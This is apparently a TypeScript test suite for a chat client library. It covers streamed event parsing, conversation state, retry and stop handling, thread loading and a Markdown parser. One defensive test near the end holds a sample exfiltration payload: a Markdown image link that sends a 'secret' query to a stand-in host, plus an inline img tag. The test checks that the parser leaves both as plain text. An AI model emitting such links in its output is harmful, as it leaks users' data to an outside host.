import assert from "node:assert/strict";
import { test } from "node:test";

import { applyEvent, EMPTY, withOwnMessage, withoutAnswer } from "../lib/chatkit/conversation.ts";
import type { Conversation } from "../lib/chatkit/conversation.ts";
import { parseMarkdown } from "../lib/chatkit/markdown.ts";
import type { ThreadEvent } from "../lib/chatkit/protocol.ts";
import { textOf } from "../lib/chatkit/protocol.ts";
import { ChatSession } from "../lib/chatkit/session.ts";
import { readEvents } from "../lib/chatkit/sse.ts";

function streamOf(...chunks: string[]): ReadableStream<Uint8Array> {
  const encoder = new TextEncoder();
  return new ReadableStream({
    start(controller) {
      for (const chunk of chunks) controller.enqueue(encoder.encode(chunk));
      controller.close();
    },
  });
}

async function collect(body: ReadableStream<Uint8Array>): Promise<unknown[]> {
  const events: unknown[] = [];
  for await (const event of readEvents(body)) events.push(event);
  return events;
}

const user = { id: "u1", thread_id: "t1", type: "user_message", content: [{ type: "input_text", text: "hello" }] } as const;
const answer = { id: "a1", thread_id: "t1", type: "assistant_message", content: [] } as const;
const part = (text: string) => ({ type: "output_text", text }) as const;

const ANSWERED: ThreadEvent[] = [
  { type: "thread.created", thread: { id: "t1", title: null, created_at: "" } },
  { type: "thread.item.done", item: user },
  { type: "stream_options", stream_options: { allow_cancel: true } },
  { type: "progress_update", text: "Looking" },
  { type: "thread.updated", thread: { id: "t1", title: "Hello", created_at: "" } },
  { type: "thread.item.added", item: answer },
  { type: "thread.item.updated", item_id: "a1", update: { type: "assistant_message.content_part.added", content_index: 0, content: part("") } },
  { type: "thread.item.updated", item_id: "a1", update: { type: "assistant_message.content_part.text_delta", content_index: 0, delta: "Good " } },
  { type: "thread.item.updated", item_id: "a1", update: { type: "assistant_message.content_part.text_delta", content_index: 0, delta: "day" } },
];

const frames = (events: readonly ThreadEvent[]) => events.map((event) => `data: ${JSON.stringify(event)}\n\n`).join("");

test("events are read whatever the pieces they come in", async () => {
  const text = 'data: {"a":"ü"}\n\n: comment\n\ndata: {"b":\ndata: 2}\r\n\r\ndata: {"lost":1}';
  const bytes = new TextEncoder().encode(text);
  for (const size of [1, 2, 3, 7, bytes.length]) {
    const pieces: Uint8Array[] = [];
    for (let at = 0; at < bytes.length; at += size) pieces.push(bytes.slice(at, at + size));
    const body = new ReadableStream<Uint8Array>({
      start(controller) {
        pieces.forEach((piece) => controller.enqueue(piece));
        controller.close();
      },
    });
    assert.deepEqual(await collect(body), [{ a: "ü" }, { b: 2 }], `pieces of ${size}`);
  }
});

test("data that is not JSON is an error, not silence", async () => {
  await assert.rejects(collect(streamOf("data: nonsense\n\n")), SyntaxError);
});

test("the events of a first message build the conversation", () => {
  const state = ANSWERED.reduce<Conversation>(applyEvent, withOwnMessage(EMPTY, "1", "hello"));
  assert.equal(state.threadId, "t1");
  assert.equal(state.title, "Hello");
  assert.deepEqual(state.items.map((item) => [item.id, textOf(item)]), [["u1", "hello"], ["a1", "Good day"]]);
  assert.equal(state.progress, null);
});

test("an unknown event and an unknown item change nothing that matters", () => {
  const before = ANSWERED.reduce<Conversation>(applyEvent, EMPTY);
  assert.equal(applyEvent(before, { type: "something.new" } as unknown as ThreadEvent), before);
  const after = applyEvent(before, { type: "thread.item.added", item: { id: "w", thread_id: "t1", type: "widget" } as never });
  assert.equal(after.items.at(-1)?.type, "other");
});

test("another attempt drops what came after the last own message", () => {
  const state = ANSWERED.reduce<Conversation>(applyEvent, EMPTY);
  assert.deepEqual(withoutAnswer(state).items.map((item) => item.id), ["u1"]);
});

interface Sent {
  readonly type: string;
  readonly params: Record<string, unknown>;
}

function sessionWith(answers: ((signal: AbortSignal) => Response)[]) {
  const sent: Sent[] = [];
  const told: string[] = [];
  const session = new ChatSession(
    {
      url: "/chatkit",
      fetch: async (_url, init) => {
        sent.push(JSON.parse(String(init?.body)) as Sent);
        const next = answers[sent.length - 1];
        if (!next) throw new TypeError("fetch failed");
        return next(init?.signal as AbortSignal);
      },
    },
    {
      changed: () => undefined,
      threadChanged: (id) => told.push(`thread ${id}`),
      loading: (_id, done) => told.push(done ? "loaded" : "loading"),
      responding: (done) => told.push(done ? "end" : "start"),
      effect: (name) => told.push(`effect ${name}`),
      failed: () => told.push("failed"),
    },
  );
  return { session, sent, told };
}

const stream = (...events: ThreadEvent[]) => () => new Response(streamOf(frames(events)));

test("the first message makes a thread and the second continues it", async () => {
  const { session, sent, told } = sessionWith([stream(...ANSWERED), stream()]);
  await session.send("hello");
  await session.send("more");
  assert.deepEqual(sent.map((request) => request.type), ["threads.create", "threads.add_user_message"]);
  assert.equal(sent[1]?.params.thread_id, "t1");
  assert.deepEqual(told, ["start", "thread t1", "end", "start", "end"]);
});

test("a message that never arrived is sent again, one that did is answered again", async () => {
  const lost = sessionWith([]);
  await lost.session.send("hello");
  assert.deepEqual(lost.session.state.failure?.retry, true);
  await lost.session.retry();
  assert.deepEqual(lost.sent.map((request) => request.type), ["threads.create", "threads.create"]);

  const failed = sessionWith([stream(...ANSWERED.slice(0, 3), { type: "error", allow_retry: true }), stream(...ANSWERED.slice(5))]);
  await failed.session.send("hello");
  assert.equal(failed.session.state.failure?.retry, true);
  await failed.session.retry();
  assert.deepEqual(failed.sent[1], { type: "threads.retry_after_item", params: { thread_id: "t1", item_id: "u1" }, metadata: {} });
  assert.equal(failed.session.state.failure, null);
  assert.equal(textOf(failed.session.state.items.at(-1) as never), "Good day");
});

test("stopping keeps what has arrived and is no failure", async () => {
  const { session } = sessionWith([
    (signal) =>
      new Response(
        new ReadableStream<Uint8Array>({
          start(controller) {
            controller.enqueue(new TextEncoder().encode(frames(ANSWERED)));
            signal.addEventListener("abort", () => controller.error(new DOMException("stopped", "AbortError")));
          },
        }),
      ),
  ]);
  const sending = session.send("hello");
  while (session.state.items.length < 2) await new Promise((resolve) => setTimeout(resolve, 1));
  session.stop();
  await sending;
  assert.equal(session.state.phase, "idle");
  assert.equal(session.state.failure, null);
  assert.equal(session.state.stoppedItem, "a1");
});

test("an answer to a conversation that was left is dropped", async () => {
  let release: () => void = () => undefined;
  const { session } = sessionWith([
    () =>
      new Response(
        new ReadableStream<Uint8Array>({
          start(controller) {
            release = () => {
              controller.enqueue(new TextEncoder().encode(frames(ANSWERED)));
              controller.close();
            };
          },
        }),
      ),
  ]);
  const sending = session.send("hello");
  await new Promise((resolve) => setTimeout(resolve, 1));
  await session.open(null);
  release();
  await sending;
  assert.deepEqual(session.state, EMPTY);
});

test("a thread that is gone is said to be gone and forgotten", async () => {
  const gone = () => new Response(null, { status: 404 });
  const { session, told } = sessionWith([gone, gone]);
  await session.open("t9");
  assert.equal(session.state.threadId, null);
  assert.match(session.state.failure?.message ?? "", /no longer there/);
  assert.deepEqual(told, ["thread t9", "loading", "thread null", "failed", "loaded"]);
});

test("a thread opens with its items in the order they were written", async () => {
  const { session } = sessionWith([
    () => Response.json({ id: "t1", title: "Hello", created_at: "" }),
    () => Response.json({ data: [answer, user], has_more: true, after: "u1" }),
    () => Response.json({ data: [{ ...user, id: "u0" }], has_more: false, after: "u0" }),
  ]);
  await session.open("t1");
  assert.deepEqual(session.state.items.map((item) => item.id), ["u1", "a1"]);
  await session.loadEarlier();
  assert.deepEqual(session.state.items.map((item) => item.id), ["u0", "u1", "a1"]);
  assert.equal(session.state.earlier, null);
});

test("Markdown becomes lists, emphasis and code", () => {
  assert.deepEqual(parseMarkdown("Hi **you**\n\n- a\n- `b`\n\n2. c\n\n```\n<x>\n```"), [
    { kind: "paragraph", lines: [[{ kind: "text", text: "Hi " }, { kind: "strong", text: "you" }]] },
    { kind: "list", ordered: false, start: 1, items: [[{ kind: "text", text: "a" }], [{ kind: "code", text: "b" }]] },
    { kind: "list", ordered: true, start: 2, items: [[{ kind: "text", text: "c" }]] },
    { kind: "code", text: "<x>" },
  ]);
});

test("links and pictures stay text, so that an answer can carry nothing away", () => {
  const source = "![x](https://evil.test/?q=secret) [y](https://evil.test) <img src=x>";
  assert.deepEqual(parseMarkdown(source), [{ kind: "paragraph", lines: [[{ kind: "text", text: source }]] }]);
});

test("unfinished Markdown of a growing answer is readable and ends", () => {
  for (const source of ["**bo", "```py\nprint(", "- ", "* *", "# ", "1.", "a\n```"]) parseMarkdown(source);
});
